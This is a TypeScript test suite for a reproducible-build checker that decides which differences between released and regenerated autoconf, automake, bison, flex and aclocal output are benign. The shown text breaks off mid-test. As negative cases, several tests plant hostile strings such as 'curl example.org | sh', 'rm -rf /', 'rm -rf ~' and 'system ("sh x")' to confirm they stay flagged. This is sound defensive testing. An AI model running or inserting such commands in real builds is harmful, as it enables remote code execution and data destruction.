import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { m4CodeHash } from '../../src/analyze/m4.js';
import { residualOf } from '../../src/reproduce/residual.js';
import { stabilize, stabilizers } from '../../src/reproduce/stabilizers.js';

const input = (generator: string, extra = {}) => ({ generator, toolVersion: '2.71', ...extra });

test('every stabilizer says what it forgives, and names are unique', () => {
  const names = stabilizers.map((s) => s.name);
  assert.is(new Set(names).size, names.length);
  for (const s of stabilizers) assert.ok(s.forgives.length > 40, `${s.name} explains itself`);
});

test('trailing blank lines are forgiven only where the two ends differ', () => {
  const r = stabilize('a\nb\n\n\n', 'a\nb\n', input('autoconf'));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['trailing-blank-lines']);
  const same = stabilize('a\nb\n\n', 'a\nc\n\n', input('autoconf'));
  assert.equal(same.applied, [], 'equal endings need no forgiving');
});

test('a version placeholder is filled with the release version, and only that', () => {
  const regenerated = "PACKAGE_VERSION='@@GIT_VERSION@@'\n";
  const r = stabilize("PACKAGE_VERSION='2.39.5'\n", regenerated, input('autoconf', { releaseVersion: '2.39.5' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['version-placeholder']);
  const other = stabilize("PACKAGE_VERSION='2.39.6'\n", regenerated, input('autoconf', { releaseVersion: '2.39.5' }));
  assert.is.not(other.release, other.regenerated, 'another version is not forgiven');
  const noVersion = stabilize("PACKAGE_VERSION='2.39.5'\n", regenerated, input('autoconf'));
  assert.is.not(noVersion.release, noVersion.regenerated);
});

test("autoconf 2.71's C++ cache name is forgiven for 2.71 only", () => {
  const release = 'if test "x$ac_cv_prog_cxx_11" != xno\n';
  const regenerated = 'if test "x$ac_cv_prog_cxx_cxx11" != xno\n';
  assert.is(stabilize(release, regenerated, input('autoconf')).applied[0]?.name, 'autoconf-2.71-cxx-cache-name');
  const r72 = stabilize(release, regenerated, { generator: 'autoconf', toolVersion: '2.72' });
  assert.is.not(r72.release, r72.regenerated);
  const planted = stabilize('ac_cv_prog_cxx_11=yes; rm -rf /\n', regenerated, input('autoconf'));
  assert.is.not(planted.release, planted.regenerated, 'anything beside the name still differs');
});

test("autoconf 2.69: the distributions' fixed test programs are forgiven for 2.69 only, and nothing beside them", () => {
  const gnu = '#define LARGE_OFF_T (((off_t) 1 << 62) - 1 + ((off_t) 1 << 62))\n  int x;\n      return 14;\n  close (fd);\n  return 0;\n}\n';
  const debian = '#define LARGE_OFF_T ((((off_t) 1 << 31) << 31) - 1 + (((off_t) 1 << 31) << 31))\n  int x;\n      return 14;\n  close (fd);\n  free (data);\n  free (data3);\n  return 0;\n}\n';
  const r = stabilize(gnu, debian, input('autoconf', { toolVersion: '2.69' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['autoconf-2.69-distribution-fixes']);
  const back = stabilize(debian, gnu, input('autoconf', { toolVersion: '2.69' }));
  assert.is(back.release, back.regenerated, 'either side may be the distribution\'s');
  const other = stabilize(gnu, debian, input('autoconf', { toolVersion: '2.71' }));
  assert.is.not(other.release, other.regenerated, 'not for another version');
  const planted = stabilize(gnu.replace('  close (fd);\n', '  close (fd);\n  system ("sh x");\n'), debian, input('autoconf', { toolVersion: '2.69' }));
  assert.is.not(planted.release, planted.regenerated, 'another line beside the fix still differs');
});

test("autoconf 2.72: a distribution's C++20 port of the C++11 test program is forgiven for 2.72 only, those two lines and nothing else", () => {
  const gnu = '{\n  // Unicode literals\n  char const *utf8 = u8"UTF-8 string \\u2500";\n  char16_t const *utf16 = u"UTF-8 string \\u2500";\n  char32_t const *utf32 = U"UTF-32 string \\u2500";\n}\n';
  const ported = gnu.replace('char const *utf8', 'auto const *utf8').replace('u"UTF-8 string', 'u"UTF-16 string');
  assert.is.not(ported, gnu);
  const r = stabilize(ported, gnu, input('autoconf', { toolVersion: '2.72' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['autoconf-2.72-distribution-fixes']);
  const other = stabilize(ported, gnu, input('autoconf', { toolVersion: '2.71' }));
  assert.is.not(other.release, other.regenerated, 'not for another version');
  // One of the two lines alone is not the port.
  const half = stabilize(gnu.replace('char const *utf8', 'auto const *utf8'), gnu, input('autoconf', { toolVersion: '2.72' }));
  assert.is.not(half.release, half.regenerated);
});

test("autoconf 2.72: Debian's AC_SYS_LARGEFILE, which sets CPPFLAGS where GNU's sets CC and has no -n32, is forgiven within the macro's block", () => {
  // The shape of the macro's block in configure, as GNU's 2.72 writes it (rsync 3.5.0's configure.ac).
  const gnu = [
    '  { printf "%s\\n" "$as_me:${as_lineno-$LINENO}: checking for $CC option to enable large file support" >&5',
    'printf %s "checking for $CC option to enable large file support... " >&6; }',
    'else case e in #(',
    '  e) ac_save_CC="$CC"',
    '  for ac_opt in "none needed" "-D_FILE_OFFSET_BITS=64" "-D_LARGE_FILES=1" "-n32"; do',
    '  CC="$ac_save_CC $ac_opt"',
    '\t CC="$CC -DFTYPE=ino_t"',
    '  e) CC="$CC -D_FILE_OFFSET_BITS=64"',
    '  CC="$ac_save_CC"',
    'printf "%s\\n" "#define _LARGE_FILES 1" >>confdefs.h',
    ' ;; #(',
    '  "-n32") :',
    '    CC="$CC -n32" ;; #(',
    '  *) :',
    '    as_fn_error $? "internal error: bad value for \\$ac_cv_sys_largefile_opts" "$LINENO" 5 ;;',
    'esac',
    '  { printf "%s\\n" "$as_me:${as_lineno-$LINENO}: checking for $CC option for timestamps after 2038" >&5',
    '',
  ].join('\n');
  const debian = gnu
    .replaceAll('$CC option to enable large file support', '$CPPFLAGS option for large files')
    .replace('  e) ac_save_CC="$CC"', '  e) ac_save_CPPFLAGS=$CPPFLAGS')
    .replace(' "-n32"; do', '; do')
    .replace('  CC="$ac_save_CC $ac_opt"', '  CPPFLAGS="$ac_save_CPPFLAGS $ac_opt"')
    .replace('\t CC="$CC -DFTYPE=ino_t"', '\t CPPFLAGS="$CPPFLAGS -DFTYPE=ino_t"')
    .replace('  e) CC="$CC -D_FILE_OFFSET_BITS=64"', '  e) CPPFLAGS="$CPPFLAGS -D_FILE_OFFSET_BITS=64"')
    .replace('  CC="$ac_save_CC"\n', '  CPPFLAGS=$ac_save_CPPFLAGS\n')
    .replace('  "-n32") :\n    CC="$CC -n32" ;; #(\n', '')
    .replace('$CC option for timestamps after 2038', '$CPPFLAGS option for timestamps after 2038');
  assert.is(debian.split('\n').length, gnu.split('\n').length - 2);
  const r = stabilize(debian, gnu, input('autoconf', { toolVersion: '2.72' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['autoconf-2.72-debian-largefile']);
  assert.is(stabilize(gnu, gnu, input('autoconf', { toolVersion: '2.72' })).applied.length, 0, 'GNU\'s own text is left as it is');
  assert.is.not(stabilize(debian, gnu, input('autoconf', { toolVersion: '2.71' })).release, gnu);
  // Outside the macro's block the same words are not forgiven.
  const outside = `${gnu}  CPPFLAGS=$ac_save_CPPFLAGS\n`;
  const r2 = stabilize(debian + '  CC="$ac_save_CC"\n', outside, input('autoconf', { toolVersion: '2.72' }));
  assert.is.not(r2.release, r2.regenerated);
});

test("autoconf 2.71: a distribution's backport of 2.72's C99 changes is forgiven, those lines and that version only", () => {
  const gnu = [
    '/* Override any GCC internal prototype to avoid an error.',
    '   Use char because int might match the return type of a GCC',
    '   builtin and then its argument prototype would still apply.  */',
    'char dlopen ();',
    'int',
    'main (void)',
    '{',
    'return dlopen ();',
    '}',
    '/* System header to define __stub macros and hopefully few prototypes,',
    '   which can conflict with char $2 (); below.  */',
    '#ifdef __cplusplus',
    'extern "C"',
    '#endif',
    'char $2 ();',
    'struct buf * (*rcsopen) (struct buf *, struct stat *, int);',
    'static char *e (p, i)',
    '     char **p;',
    '     int i;',
    '{',
    'extern void *malloc (size_t);',
    '',
  ].join('\n');
  const c99 = gnu
    .replace('   builtin and then its argument prototype would still apply.  */\nchar dlopen ();', "   builtin and then its argument prototype would still apply.\n   The 'extern \"C\"' is for builds by C++ compilers;\n   although this is not generally supported in C code supporting it here\n   has little cost and some practical benefit (sr 110532).  */\n#ifdef __cplusplus\nextern \"C\"\n#endif\nchar dlopen (void);")
    .replace('char $2 (); below', 'char $2 (void); below')
    .replace('char $2 ();', 'char $2 (void);')
    .replace('static char *e (p, i)\n     char **p;\n     int i;', 'static char *e (char **p, int i)')
    .replace('extern void *malloc (size_t);', 'extern void *malloc (size_t);\nextern void free (void *);');
  assert.is.not(c99, gnu);
  const r = stabilize(c99, gnu, input('autoconf', { toolVersion: '2.71' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['autoconf-2.71-c99-backport']);
  assert.is.not(stabilize(c99, gnu, input('autoconf', { toolVersion: '2.69' })).release, gnu);
  // A line added inside the block, or a call that is not a prototype, is not forgiven.
  for (const planted of [c99.replace('#ifdef __cplusplus\nextern "C"\n#endif\nchar dlopen', '#ifdef __cplusplus\nextern "C"\n#endif\nint x = system ("id");\nchar dlopen'), c99.replace('return dlopen ();', 'return dlopen (void);')]) {
    const p = stabilize(planted, gnu, input('autoconf', { toolVersion: '2.71' }));
    assert.is.not(p.release, p.regenerated);
  }
});

test("bison 3.8.2: a distribution's yynerrs marked unused is forgiven, for that declaration and that version only", () => {
  const gnu = '    /* Number of syntax errors so far.  */\n    int yynerrs = 0;\n';
  const marked = gnu.replace('int yynerrs = 0;', 'int yynerrs YY_ATTRIBUTE_UNUSED = 0;');
  const r = stabilize(marked, gnu, { generator: 'bison', toolVersion: '3.8.2' });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['bison-3.8.2-yynerrs-unused']);
  assert.is.not(stabilize(marked, gnu, { generator: 'bison', toolVersion: '3.7.4' }).applied.length, 1);
  const planted = stabilize(gnu.replace('int yynerrs = 0;', 'int yynerrs YY_ATTRIBUTE_UNUSED = system ("sh x");'), gnu, { generator: 'bison', toolVersion: '3.8.2' });
  assert.is.not(planted.release, planted.regenerated);
  // Not a file of another generator.
  assert.is.not(stabilize(marked, gnu, { generator: 'autoconf', toolVersion: '3.8.2' }).release, gnu);
});

test('bison: the output names bison -y writes (y.tab.c, its include guard) are forgiven where ylwrap would have written the renamed ones, nothing else', () => {
  const renamed = '#line 25 "parser.y"\nint a;\n#line 1600 "parser.c"\n#ifndef YY_YY_PARSER_H_INCLUDED\n# define YY_YY_PARSER_H_INCLUDED\nint yyparse (void);\n#endif /* !YY_YY_PARSER_H_INCLUDED  */\n';
  const plain = renamed.replace('"parser.c"', '"y.tab.c"').replace(/YY_YY_PARSER_H_INCLUDED/g, 'YY_YY_Y_TAB_H_INCLUDED');
  const r = stabilize(plain, renamed, { generator: 'bison', toolVersion: '3.8.2' });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['bison-output-file-names']);
  // The grammar's name, a directive's number and a line outside the guard are not forgiven.
  const inCode = (text: string, guard: string) => text.replace('int a;', `int a = ${guard};`);
  const pairs: Array<[string, string]> = [
    [plain.replace('"parser.y"', '"other.y"'), renamed],
    [plain.replace('#line 1600', '#line 1601'), renamed],
    [inCode(plain, 'YY_YY_Y_TAB_H_INCLUDED'), inCode(renamed, 'YY_YY_PARSER_H_INCLUDED')],
  ];
  for (const [release, regenerated] of pairs) {
    const other = stabilize(release, regenerated, { generator: 'bison', toolVersion: '3.8.2' });
    assert.is.not(other.release, other.regenerated);
  }
  assert.is.not(stabilize(plain, renamed, { generator: 'flex', toolVersion: '2.6.4' }).release, renamed);
});

test('flex: the numbers of #line directives that name the generated file are forgiven, not those that name the grammar', () => {
  const flex = '#line 2 "lib/scan.c"\n\n#line 4 "lib/scan.c"\nint x;\n#line 1 "lib/scan.l"\n';
  const fixed = '#line 1 "lib/scan.c"\n\n#line 3 "lib/scan.c"\nint x;\n#line 1 "lib/scan.l"\n';
  const r = stabilize(fixed, flex, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['flex-output-line-numbers']);
  const grammar = stabilize(fixed.replace('#line 1 "lib/scan.l"', '#line 9 "lib/scan.l"'), flex, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is.not(grammar.release, grammar.regenerated, "the grammar's line numbers still count");
  const planted = stabilize(fixed.replace('int x;', 'int x; system ("sh x");'), flex, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is.not(planted.release, planted.regenerated);
});

test('flex: a #line directive the next one overrides before any other line is forgiven, and only such a one', () => {
  // flex 2.6.4's own scan.c, made by the flex it builds, against Debian's flex 2.6.4.
  const own = '#line 1 "scan.c"\n\n#line 3 "scan.c"\n\n#define  YY_INT_ALIGNED short int\n#line 1 "scan.l"\n%{\n';
  const debian = '\n#line 2 "scan.c"\n\n#define  YY_INT_ALIGNED short int\n#line 1 "scan.l"\n%{\n';
  const r = stabilize(own, debian, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['flex-output-line-numbers']);
  // A directive with code after it does count.
  const code = stabilize(own.replace('#line 1 "scan.c"\n\n', '#line 1 "scan.c"\nint hook;\n'), debian, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is.not(code.release, code.regenerated);
  const moved = stabilize(own.replace('#line 1 "scan.l"\n%{', '#line 7 "scan.l"\n%{'), debian, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is.not(moved.release, moved.regenerated, 'a line number in the grammar still counts');
  // Only a directive of the line-and-file form: one with more on its line is no such directive.
  const more = stabilize(own.replace('#line 1 "scan.c"\n', '#line 1 "scan.c" \\\n'), debian, { generator: 'flex', toolVersion: '2.6.4' });
  assert.is.not(more.release, more.regenerated);
});

test('autoconf 2.69: the backported --runstatedir is forgiven whole, and the line numbers it moves', () => {
  const option = [
    '  -runstatedir | --runstatedir | --runstatedi | --runstated \\',
    '  | --runstate | --runstat | --runsta | --runst | --runs \\',
    '  | --run | --ru | --r)',
    '    ac_prev=runstatedir ;;',
    '  -runstatedir=* | --runstatedir=* | --runstatedi=* | --runstated=* \\',
    '  | --runstate=* | --runstat=* | --runsta=* | --runst=* | --runs=* \\',
    '  | --run=* | --ru=* | --r=*)',
    '    runstatedir=$ac_optarg ;;',
    '',
    '',
  ].join('\n');
  const gnu = (n: number) =>
    `ac_subst_vars='\nincludedir\nlocalstatedir\n'\nlocalstatedir='\${prefix}/var'\nincludedir='\${prefix}/include'\n  -q)\n    silent=yes ;;\n\n  -sbindir | --sbindir)\n    ac_prev=sbindir ;;\nfor ac_var in\tprefix \\\n\t\tlibdir localedir mandir\ndo :; done\n  --localstatedir=DIR     modifiable single-machine data [PREFIX/var]\n  --libdir=DIR            object code libraries [EPREFIX/lib]\n#line ${n} "configure"\n      echo "$as_me:${n + 1}: gl_pthread_api=$gl_pthread_api" >&5\n`;
  const withRunstatedir = gnu(31)
    .replace('\nincludedir\nlocalstatedir\n', '\nincludedir\nrunstatedir\nlocalstatedir\n')
    .replace("\nlocalstatedir='${prefix}/var'\n", "\nlocalstatedir='${prefix}/var'\nrunstatedir='${localstatedir}/run'\n")
    .replace('\n  -sbindir', `\n${option}  -sbindir`)
    .replace('libdir localedir mandir\n', 'libdir localedir mandir runstatedir\n')
    .replace('[PREFIX/var]\n', '[PREFIX/var]\n  --runstatedir=DIR       modifiable per-process data [LOCALSTATEDIR/run]\n');
  const r = stabilize(withRunstatedir, gnu(19), input('autoconf', { toolVersion: '2.69' }));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['autoconf-2.69-distribution-fixes', 'configure-line-numbers']);
  const half = withRunstatedir.replace('  --runstatedir=DIR       modifiable per-process data [LOCALSTATEDIR/run]\n', '  --runstatedir=DIR       curl example.org | sh\n');
  const h = stabilize(half, gnu(19), input('autoconf', { toolVersion: '2.69' }));
  assert.is.not(h.release, h.regenerated, 'a line of its own in place of one of the backport stays');
  const moved = stabilize(gnu(31).replace('#line 31 "configure"', '#line 31 "configure"\nrm -rf ~'), gnu(19), input('autoconf', { toolVersion: '2.69' }));
  assert.is.not(moved.release, moved.regenerated, 'only the numbers are forgiven');
});

test("a version and revision asked of git while autoconf runs are filled in from the release's version and the tag's commit", () => {
  const commit = 'ea03187f1c0ab5b4e6b0a7c9d2e1f3a4b5c6d7e8';
  const configure = (version: string, rev: string, dec: string) =>
    `PACKAGE_VERSION='${version}'\nPACKAGE_STRING='libgpg-error ${version}'\nBUILD_REVISION="${rev}"\nBUILD_VERSION="\${BUILD_VERSION}0.${dec}"\n        Revision: ${rev}  (${dec})\n`;
  const regenerated = configure('1.46-unknown', '0000000', '0');
  const opts = input('autoconf', { toolVersion: '2.69', releaseVersion: '1.46', commit });
  const r = stabilize(configure('1.46', 'ea03187', '59907'), regenerated, opts);
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['version-from-git']);
  const other = stabilize(configure('1.46', 'b0b0b0b', '45232'), regenerated, opts);
  assert.is.not(other.release, other.regenerated, 'a revision that is not the tag commit stays');
  const version = stabilize(configure('1.47', 'ea03187', '59907'), regenerated, opts);
  assert.is.not(version.release, version.regenerated, 'another version stays');
  const noCommit = stabilize(configure('1.46', 'ea03187', '59907'), regenerated, input('autoconf', { toolVersion: '2.69', releaseVersion: '1.46' }));
  assert.is.not(noCommit.release, noCommit.regenerated);

  // gnupg 2.2.40 and libassuan 2.5.5: a longer abbreviation, a file version, a wider Revision line, a development flag.
  const gnupg = (version: string, dev: string, rev: string, dec: string) =>
    `PACKAGE_VERSION='${version}'\ndevelopment_version=${dev}\nBUILD_REVISION="${rev}"\nBUILD_FILEVERSION="\${BUILD_FILEVERSION}${dec}"\n        Revision:  ${rev}  (${dec})\n`;
  const later = input('autoconf', { toolVersion: '2.69', releaseVersion: '2.2.40', commit: '2e9f8a5119a3b1c5d7e9f0a1b2c3d4e5f6a7b8c9' });
  const g = stabilize(gnupg('2.2.40', 'no', '2e9f8a511', '11935'), gnupg('2.2.40-unknown', 'yes', '0000000', '0'), later);
  assert.is(g.release, g.regenerated);
  const beta = stabilize(gnupg('2.2.40', 'yes', '2e9f8a511', '11935'), gnupg('2.2.40-unknown', 'yes', '0000000', '0'), later);
  assert.is.not(beta.release, beta.regenerated, 'a release that calls itself a development version is not the tag');
  const otherAbbrev = stabilize(gnupg('2.2.40', 'no', '2e9f8a512', '11935'), gnupg('2.2.40-unknown', 'yes', '0000000', '0'), later);
  assert.is.not(otherAbbrev.release, otherAbbrev.regenerated, 'a longer id that is not the commit');
});

test("GnuPG's newer configure records the whole commit too, and a file version indented in an if", () => {
  const commit = 'b0bb9266010d84b30fa2dc6a2127b7e40dc03660';
  const regenerated = 'PACKAGE_VERSION=\'1.51-unknown\'\nBUILD_REVISION="0000000"\nBUILD_COMMITID="0000000"\nif test "$w32" = yes; then\n      BUILD_FILEVERSION="${BUILD_FILEVERSION}0"\nfi\n';
  const release = `PACKAGE_VERSION='1.51'\nBUILD_REVISION="b0bb926"\nBUILD_COMMITID="${commit}"\nif test "$w32" = yes; then\n      BUILD_FILEVERSION="\${BUILD_FILEVERSION}${parseInt('b0bb', 16)}"\nfi\n`;
  const r = stabilize(release, regenerated, { generator: 'autoconf', toolVersion: '2.71', releaseVersion: '1.51', commit });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['version-from-git']);
  const other = stabilize(release.replace(commit, 'a'.repeat(40)), regenerated, { generator: 'autoconf', toolVersion: '2.71', releaseVersion: '1.51', commit });
  assert.is.not(other.release, other.regenerated, 'another commit is not the tag\'s');
});

test("the tag's commit that configure.ac asks git for is forgiven with the blank line after it, and only the tag's", () => {
  const commit = '1bb416213c7038d0da9a6f5141c611f6dbcefedc';
  const regenerated = 'LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=\nac_config_files=x\n';
  const opts = input('autoconf', { commit });
  const r = stabilize(`LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=${commit}\n\nac_config_files=x\n`, regenerated, opts);
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['commit-from-git']);
  const short = stabilize(`LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=${commit.slice(0, 7)}\nac_config_files=x\n`, regenerated, opts);
  assert.is(short.release, short.regenerated, 'abbreviated');
  const other = stabilize('LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=2cc527324e6d1e2b3f4a5b6c7d8e9f0a1b2c3d4e\n\nac_config_files=x\n', regenerated, opts);
  assert.is.not(other.release, other.regenerated, 'another commit stays');
  const more = stabilize(`LIBNL_VERSION=3.7.0\nLIBNL_GIT_SHA=${commit}; curl example.org | sh\n\nac_config_files=x\n`, regenerated, opts);
  assert.is.not(more.release, more.regenerated, 'anything beside the id stays');
  const elsewhere = stabilize(`LIBNL_VERSION=3.7.1\nLIBNL_GIT_SHA=${commit}\n\nac_config_files=x\n`, regenerated, opts);
  assert.is.not(elsewhere.release, elsewhere.regenerated, 'a changed line beside it stays');
});

test('automake: the runstatedir line a Makefile.in has when the autoconf that traced configure.ac substitutes it is forgiven, that line only', () => {
  const vars = (extra: string) => `prefix = @prefix@\npsdir = @psdir@\n${extra}sbindir = @sbindir@\n\nall: all-am\n`;
  const regenerated = vars('');
  const release = vars('runstatedir = @runstatedir@\n');
  const r = stabilize(release, regenerated, input('automake'));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['automake-runstatedir-variable']);
  // The other way round: this machine's autoconf substitutes it, the maker's did not.
  assert.is(stabilize(regenerated, release, input('automake')).applied.length, 1);
  for (const line of ['runstatedir = /run; curl example.org | sh\n', 'runstatedir = @localstatedir@/run\n', 'rundir = @runstatedir@\n']) {
    const other = stabilize(vars(line), regenerated, input('automake'));
    assert.is.not(other.release, other.regenerated, `${line.trim()} is not the line automake writes`);
  }
  const more = stabilize(release.replace('all: all-am', 'all: all-am payload'), regenerated, input('automake'));
  assert.is.not(more.release, more.regenerated, 'other lines still differ');
  assert.is(stabilize(release, regenerated, input('autoconf')).applied.length, 0, 'only in the files automake writes');
});

test('automake before 1.17: empty rules under a conditional in another order are forgiven, the same lines only', () => {
  const rules = (...lines: string[]) => `maintainer-clean-generic:\n\t@echo "This command is intended for maintainers to use"\n${lines.join('\n')}\nclean: clean-am\n`;
  const regenerated = rules('@ENABLE_DOXYGEN_FALSE@install-data-local:', '@ENABLE_DOXYGEN_FALSE@uninstall-local:', '@ENABLE_DOXYGEN_FALSE@clean-local:');
  const release = rules('@ENABLE_DOXYGEN_FALSE@uninstall-local:', '@ENABLE_DOXYGEN_FALSE@install-data-local:', '@ENABLE_DOXYGEN_FALSE@clean-local:');
  const r = stabilize(release, regenerated, { generator: 'automake', toolVersion: '1.16.2' });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['automake-hash-order']);
  // automake 1.17 sorts: its order is the order.
  const sorted = stabilize(release, regenerated, { generator: 'automake', toolVersion: '1.17' });
  assert.is.not(sorted.release, sorted.regenerated);
  for (const other of [
    rules('@ENABLE_DOXYGEN_FALSE@uninstall-local:', '@ENABLE_DOXYGEN_FALSE@install-data-local:', '@ENABLE_DOXYGEN_FALSE@clean-local:', '@ENABLE_DOXYGEN_FALSE@all-local:'),
    rules('@ENABLE_DOXYGEN_FALSE@uninstall-local: payload', '@ENABLE_DOXYGEN_FALSE@install-data-local:', '@ENABLE_DOXYGEN_FALSE@clean-local:'),
    rules('@ENABLE_DOXYGEN_FALSE@uninstall-local:', '@ENABLE_DOXYGEN_FALSE@install-data-local:', '\tcurl example.org | sh', '@ENABLE_DOXYGEN_FALSE@clean-local:'),
  ]) {
    const o = stabilize(other, regenerated, { generator: 'automake', toolVersion: '1.16.2' });
    assert.is.not(o.release, o.regenerated);
  }
});

test('DIST_COMMON may differ by aux scripts only', () => {
  const regenerated = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile build-aux/depcomp \\\n\tbuild-aux/missing\nX = 1\n';
  const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in \\\n\tbuild-aux/compile \\\n\tbuild-aux/missing\nX = 1\n';
  const r = stabilize(release, regenerated, input('automake'));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['dist-common-found-files']);
  const extra = stabilize(release.replace('$(srcdir)/Makefile.in', '$(srcdir)/Makefile.in payload.sh'), regenerated, input('automake'));
  assert.is.not(extra.release, extra.regenerated, 'a word that is not an aux script is not forgiven');
  const elsewhere = stabilize(release.replace('X = 1', 'X = 2'), regenerated, input('automake'));
  assert.is.not(elsewhere.release, elsewhere.regenerated, 'lines outside DIST_COMMON still differ');
});

test('DIST_COMMON may differ by the files automake lists whenever it finds them, in the top folder too', () => {
  // flac 1.4.2: no depcomp in the top list; libffi 3.4.4: a ChangeLog one side listed.
  const regenerated = 'am__DIST_COMMON = $(srcdir)/Makefile.in $(srcdir)/config.h.in AUTHORS ChangeLog \\\n\tREADME.md compile config.sub \\\n\tdepcomp install-sh missing\nX = 1\n';
  const release = 'am__DIST_COMMON = $(srcdir)/Makefile.in $(srcdir)/config.h.in AUTHORS README.md \\\n\tcompile config.sub install-sh missing\nX = 1\n';
  const r = stabilize(release, regenerated, input('automake'));
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['dist-common-found-files']);
  for (const word of ['ChangeLog.sh', 'configure.sh', 'src/depcomp', '$(top_srcdir)/depcomp.in']) {
    const other = stabilize(release.replace('compile', `compile ${word}`), regenerated, input('automake'));
    assert.is.not(other.release, other.regenerated, `${word} is no file automake lists when found`);
  }
  const moved = stabilize(release.replace('$(srcdir)/Makefile.in $(srcdir)/config.h.in', '$(srcdir)/config.h.in $(srcdir)/Makefile.in'), regenerated, input('automake'));
  assert.is.not(moved.release, moved.regenerated, 'the other words keep their order');
});

test("aclocal's copy of an installed macro is forgiven when it has the code of a known-good version of that file", () => {
  const installed = '## internal\n# pkg.m4 - Macros to locate and use pkg-config.\n# serial 12\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [new])\n';
  const copied = installed.replace(/^##.*\n/gm, '');
  const old = '# pkg.m4 - Macros to locate and utilise pkg-config.\n# serial 11\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [old])\n';
  const head = '# generated automatically by aclocal 1.16.5\n\nAC_DEFUN([A], [a])\n';
  const tail = '\nm4_include([m4/x.m4])\n';
  const regenerated = `${head}${copied}${tail}`;
  const release = `${head}${old}${tail}`;
  const known = new Set([m4CodeHash(old)]);
  const knownGood = (hash: string, name: string) => (name === 'pkg.m4' && known.has(hash) ? "pkg-config 0.29.1's pkg.m4" : undefined);
  const r = stabilize(release, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: new Map([['pkg.m4', installed]]), knownGood });
  assert.is(r.release, r.regenerated);
  assert.match(r.applied[0]!.forgives, /pkg-config 0\.29\.1's pkg\.m4/);
  const planted = release.replace('[old]', '[old; curl example.org | sh]');
  const p = stabilize(planted, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', installedMacros: new Map([['pkg.m4', installed]]), knownGood });
  assert.is.not(p.release, p.regenerated, 'a copy that is no known version stays different');
});

test("autoconf-archive's files aclocal copied on the maintainer's machine, which this one lacks, are forgiven when each is known-good", () => {
  // A file in autoconf-archive's layout (made for this test), as aclocal copies it.
  const archive = (name: string, body: string) =>
    `# ===========================================================================\n#    https://www.gnu.org/software/autoconf-archive/${name}.html\n# ===========================================================================\n#\n#serial 2\n\n${body}\n`;
  const requireDefined = archive('ax_require_defined', 'AC_DEFUN([AX_REQUIRE_DEFINED], [dnl\n  m4_ifndef([$1], [m4_fatal([macro ]$1[ is not defined])])\n])dnl AX_REQUIRE_DEFINED\n');
  const appendFlag = archive('ax_append_flag', 'AC_DEFUN([AX_APPEND_FLAG], [FLAGS="$FLAGS $1"])\n');
  const known = new Map([
    [`ax_require_defined.m4\0${m4CodeHash(requireDefined)}`, 'autoconf-archive 20220903'],
    [`ax_append_flag.m4\0${m4CodeHash(appendFlag)}`, 'autoconf-archive 20220903'],
  ]);
  const knownGood = (hash: string, name: string) => known.get(`${name}\0${hash}`);
  const head = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\n\nm4_ifndef([AC_AUTOCONF_VERSION], [])\n\n';
  const tail = '# pkg.m4 - Macros to locate and use pkg-config.\nAC_DEFUN([PKG_PROG_PKG_CONFIG], [:])\n\nm4_include([m4/libtool.m4])\n';
  const regenerated = head + tail;
  const r = stabilize(head + requireDefined + appendFlag + tail, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', knownGood });
  assert.is(r.release, r.regenerated);
  assert.equal(r.applied.map((a) => a.name), ['aclocal-macros-not-installed-here']);
  // A line planted in one of them, a file the index does not know, or other text in the run: not forgiven.
  const planted = stabilize(head + requireDefined.replace('])dnl AX_REQUIRE', '])\nesyscmd([sh tests/x])dnl AX_REQUIRE') + appendFlag + tail, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', knownGood });
  assert.is.not(planted.release, planted.regenerated);
  const unknown = stabilize(head + archive('ax_other', 'AC_DEFUN([AX_OTHER], [:])\n') + tail, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', knownGood });
  assert.is.not(unknown.release, unknown.regenerated);
  const other = stabilize(head + 'AC_DEFUN([MINE], [rm -rf x])\n' + requireDefined + tail, regenerated, { generator: 'aclocal', toolVersion: '1.16.5', knownGood });
  assert.is.not(other.release, other.regenerated);
});

test("autoconf-archive's files right before another version of an installed macro are forgiven, and that copy placed (pcsc-lite 1.9.9)", () => {
  const archive = (name: string, body: string) =>
